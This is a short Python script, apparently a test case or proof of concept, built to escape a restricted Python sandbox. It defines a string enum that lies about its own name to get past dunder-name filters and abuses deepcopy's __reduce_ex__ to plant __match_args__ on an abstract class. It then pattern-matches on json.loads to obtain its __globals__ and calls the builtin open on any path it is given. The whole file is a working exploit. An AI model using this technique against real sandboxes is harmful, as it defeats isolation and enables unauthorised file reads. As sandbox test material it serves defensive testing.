# The name is a string that lies about itself.
# after: read
# source: own
import copy
import json
from abc import ABC
from enum import Enum
from types import SimpleNamespace
class U(ABC): pass
class Liar(str, Enum):
    A = "__reduce_ex__"
    def startswith(self, *a): return False
    def endswith(self, *a): return False
    def __hash__(self): return hash("__reduce_ex__")
    def __eq__(self, other): return True
def attack(path, **_):
    evil = SimpleNamespace(**{Liar.A: lambda p: (lambda: U, (), (None, {"__match_args__": ("__globals__",)}))})
    copy.deepcopy(evil)
    U.register(type(json.loads))
    match json.loads:
        case U(found):
            return {"text": found["__builtins__"]["open"](path).read()}
